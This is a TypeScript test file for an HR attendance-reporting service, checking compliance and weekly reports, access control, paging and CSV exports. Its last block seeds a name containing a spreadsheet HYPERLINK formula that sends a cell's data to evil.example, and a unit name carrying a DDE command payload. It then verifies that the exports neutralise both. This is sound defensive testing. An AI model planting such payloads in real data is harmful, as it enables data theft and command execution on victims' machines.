import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  addTeamMembers,
  buildWorld,
  createTestPlatform,
  signIn,
  type TestPlatform,
  type World,
} from '../support/test-platform.js';

describe('attendance compliance report (ATT-27)', () => {
  let t: TestPlatform;
  let w: World;
  const as = (u: keyof World['tokens']) => ({ Authorization: `Bearer ${w.tokens[u]}` });

  beforeAll(async () => {
    t = await createTestPlatform();
    t.clock.set('2026-11-02T09:00:00Z');
    w = await buildWorld(t);
    // An absence starting today: contact is made the next day, in time.
    const a = await request(t.app)
      .post(`/api/v1/people/${w.report.id}/absences`)
      .set(as('lineManager'))
      .send({ startDate: '2026-11-02', reasonCategory: 'cold-flu' });
    t.clock.set('2026-11-03T09:00:00Z');
    const tasks = (await request(t.app).get('/api/v1/worklist').set(as('lineManager'))).body.items;
    const contact = tasks.find((x: { code: string }) => x.code === 'manager-contact');
    await request(t.app).post(`/api/v1/tasks/${contact.id}/complete`).set(as('lineManager')).send({ note: 'Phoned' });
    await request(t.app).patch(`/api/v1/absences/${a.body.id}`).set(as('lineManager')).send({ endDate: '2026-11-04' });
    t.clock.set('2026-11-10T09:00:00Z');
    await request(t.app).post(`/api/v1/absences/${a.body.id}/return-to-work`).set(as('lineManager')).send({
      interviewDate: '2026-11-05',
      fitForFullDuties: true,
      recurrenceLikelihood: 'unlikely',
      attendanceExpectationsDiscussed: true,
      certificationComplete: true,
      disabilityRelated: false,
      pregnancyRelated: false,
      notifiedFirstDayOfSickness: true,
      notifiedFirstDayOfFitness: false,
      flexibleWorkingDiscussed: true,
    });
  });
  afterAll(async () => t.destroy());

  it('when HR opens the compliance report, then each measure shows as a percentage with its counts', async () => {
    const agent = await signIn(t, w.users.hr.email);
    const page = await agent.get('/reports/attendance?from=2026-11-01&to=2026-11-30');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Managers made contact within 24 hours');
    // The result (linking to the cases behind it) and its counts side by side, each cell led by its heading for narrow screens (issue 15 §7, §9).
    expect(page.text).toMatch(
      />100%<span class="nhsuk-u-visually-hidden">[^<]*<\/span><\/a><\/span><\/td>\s*<td[^>]*><span[^>]*>Counts <\/span><span class="blp-cell-value">1 of 1/,
    );
    expect(page.text).toContain('Nothing to measure');
  });

  it('when HR follows a percentage, then the absences behind it are listed with whether each met the measure, and nothing clinical', async () => {
    const agent = await signIn(t, w.users.hr.email);
    const page = await agent.get('/reports/attendance?from=2026-11-01&to=2026-11-30');
    const html = page.text.replace(/&#x3D;/g, '=').replace(/&amp;/g, '&');
    const href = /href="(\/reports\/attendance\/cases\?[^"]*measure=notified-first-day-fit)"/.exec(html)?.[1];
    expect(href).toBeDefined();
    const cases = await agent.get(href!);
    expect(cases.status).toBe(200);
    expect(cases.text).toContain('Staff notified on the first day of fitness');
    expect(cases.text).toContain('0 of 1 absence met this measure.');
    expect(cases.text).toContain(`href="/people/${w.report.id}/attendance"`);
    expect(cases.text).toContain('2 November 2026 to 4 November 2026');
    expect(cases.text).toContain('Not met');
    // The reason is not shown: the attendance page says what each reader may see.
    expect(cases.text).not.toContain('Cold');
    expect(cases.text).not.toMatch(/cold-flu|notified-first-day-fit<|ATT-\d/);
    // Another organisation's HR cannot open the host force's cases; a line manager cannot open reports at all.
    const partner = await signIn(t, w.users.partnerHr.email);
    expect((await partner.get(`${href}&organisationId=${w.host.id}`)).status).toBe(404);
    expect((await (await signIn(t, w.users.lineManager.email)).get(href!)).status).toBe(403);
  });

  it('when the CSV is downloaded, then it has one row per measure with the counts', async () => {
    const agent = await signIn(t, w.users.hr.email);
    const csv = await agent.get('/reports/attendance.csv?from=2026-11-01&to=2026-11-30');
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toMatch(/attendance-compliance-2026-11-01-to-2026-11-30\.csv/);
    const lines = csv.text.trim().split('\n');
    expect(lines[0]).toBe('measure,met,of,percent,from,to');
    expect(lines).toContain('Return-to-work interviews recorded,1,1,100,2026-11-01,2026-11-30');
    expect(lines).toContain('Staff notified on the first day of fitness,0,1,0,2026-11-01,2026-11-30');
  });

  it('when the period is back to front or not a date, then the page says so with 422', async () => {
    const agent = await signIn(t, w.users.hr.email);
    expect((await agent.get('/reports/attendance?from=yesterday')).status).toBe(422);
  });

  it('when a partner agency’s HR asks for the host force’s report, then 404', async () => {
    const agent = await signIn(t, w.users.partnerHr.email);
    expect((await agent.get(`/reports/attendance?organisationId=${w.host.id}`)).status).toBe(404);
  });

  it('when HR opens the weekly report, then people absent now or at a review point are listed with score, spells and visit, and it downloads as CSV (ATT-26)', async () => {
    // Someone off now, in the host force.
    expect(
      (
        await request(t.app)
          .post(`/api/v1/people/${w.outsider.id}/absences`)
          .set(as('hr'))
          .send({ startDate: '2026-11-06', reasonCategory: 'musculoskeletal-back' })
      ).status,
    ).toBe(201);
    const agent = await signIn(t, w.users.hr.email);
    const page = await agent.get('/reports/attendance/weekly?asOf=2026-11-10');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Outsider, Olly');
    expect(page.text).toContain('Back pain or injury');
    expect(page.text).not.toContain('Report, Riley');
    const csv = await agent.get('/reports/attendance/weekly.csv?asOf=2026-11-10');
    const lines = csv.text.trim().split('\n');
    expect(lines[0]).toBe(
      'name,staff_number,unit,absent_since,reason,days_absent,home_visit_on,spells_52_weeks,bradford_score,triggers',
    );
    expect(lines[1]).toContain('"Outsider, Olly"');
    expect(lines[1]).toContain('2026-11-06,Back pain or injury,5,,1,3,');
  });

  it('when the weekly report is long, then it is paged 25 at a time and each column sorts it, both ways; the CSV has everyone', async () => {
    const team = await addTeamMembers(t, w, 30);
    for (const [i, p] of team.entries())
      expect(
        (
          await request(t.app)
            .post(`/api/v1/people/${p.id}/absences`)
            .set(as('hr'))
            .send({ startDate: i % 2 ? '2026-11-09' : '2026-11-01', reasonCategory: 'cold-flu' })
        ).status,
      ).toBe(201);
    const agent = await signIn(t, w.users.hr.email);
    const first = await agent.get('/reports/attendance/weekly?asOf=2026-11-10');
    const rowsOf = (html: string) => html.split('<tr role="row" class="nhsuk-table__row">').length - 1;
    expect(rowsOf(first.text)).toBe(25);
    expect(first.text).toContain('Showing 1 to 25 of 31 people.');
    expect(first.text).toContain('nhsuk-pagination--numbered');
    expect(first.text).toContain('aria-current="page"');
    const second = await agent.get('/reports/attendance/weekly?asOf=2026-11-10&sort=name&order=asc&page=2');
    expect(rowsOf(second.text)).toBe(6);
    expect(second.text).toContain('Showing 26 to 31 of 31 people.');
    // Sorted by the date absent since, earliest first, then the other way round.
    const since = (html: string) =>
      [...html.matchAll(/Absent since <\/span>(\d+) November 2026/g)].map((m) => Number(m[1]));
    const asc = await agent.get('/reports/attendance/weekly?asOf=2026-11-10&sort=absentSince&order=asc');
    expect(since(asc.text)[0]).toBe(1);
    expect(asc.text).toMatch(/aria-sort="ascending"><a href="[^"]*order&#x3D;desc/);
    const desc = await agent.get('/reports/attendance/weekly?asOf=2026-11-10&sort=absentSince&order=desc');
    expect(since(desc.text)[0]).toBe(9);
    expect((await agent.get('/reports/attendance/weekly?asOf=2026-11-10&sort=nonsense')).status).toBe(422);
    const csv = await agent.get('/reports/attendance/weekly.csv?asOf=2026-11-10');
    expect(csv.text.trim().split('\n')).toHaveLength(32);
  });
});

/** Issue 14 §10: names people typed reach every CSV as text, never as a live formula (OWASP CSV injection). */
describe('formula injection in the attendance CSVs (ATT-26, ATT-27, ATT-28)', () => {
  let t: TestPlatform;
  let w: World;
  const as = (u: keyof World['tokens']) => ({ Authorization: `Bearer ${w.tokens[u]}` });
  const FAMILY_NAME = '=HYPERLINK("http://evil.example/?x="&B3,"Open")';
  const UNIT_NAME = `@SUM(1+1)*cmd|' /C calc'!A0`;

  beforeAll(async () => {
    t = await createTestPlatform();
    t.clock.set('2026-11-20T09:00:00Z');
    w = await buildWorld(t);
    const unit = await request(t.app).post('/api/v1/units').set(as('hr')).send({ name: UNIT_NAME });
    expect(unit.status).toBe(201);
    const person = await request(t.app).post('/api/v1/people').set(as('hr')).send({
      staffNumber: 'CSV1',
      givenName: '+44 Riley',
      familyName: FAMILY_NAME,
      role: 'officer',
      unitId: unit.body.id,
      serviceStartDate: '2020-01-06',
    });
    expect(person.status).toBe(201);
    const absence = await request(t.app)
      .post(`/api/v1/people/${person.body.id}/absences`)
      .set(as('hr'))
      .send({ startDate: '2026-11-16', reasonCategory: 'cold-flu' });
    expect(absence.status).toBe(201);
  });
  afterAll(async () => t.destroy());

  it('when HR downloads every CSV, then no cell starts with =, +, -, @, tab or CR, and the names read as text', async () => {
    const agent = await signIn(t, w.users.hr.email);
    const cells: string[] = [];
    for (const url of [
      '/reports/attendance/weekly.csv?asOf=2026-11-20',
      '/reports/attendance.csv?from=2026-11-01&to=2026-11-20',
      '/reports/attendance/monthly.csv?month=2026-11',
      '/reports/attendance/monthly.csv?month=2026-11&part=reasons',
      '/reports/attendance/cost.csv?period=2026-Q3',
    ]) {
      const res = await agent.get(url);
      expect(res.status, url).toBe(200);
      expect(res.headers['content-type'], url).toMatch(/text\/csv/);
      const rows = parse(res.text) as string[][];
      expect(rows.length, url).toBeGreaterThan(1);
      for (const cell of rows.flat()) expect(cell, url).not.toMatch(/^[=+\-@\t\r]/);
      cells.push(...rows.flat());
    }
    // The values stay readable: the same text with a single quote before it.
    expect(cells).toContain(`'${FAMILY_NAME}, +44 Riley`);
    expect(cells).toContain(`'${UNIT_NAME}`);
  });
});
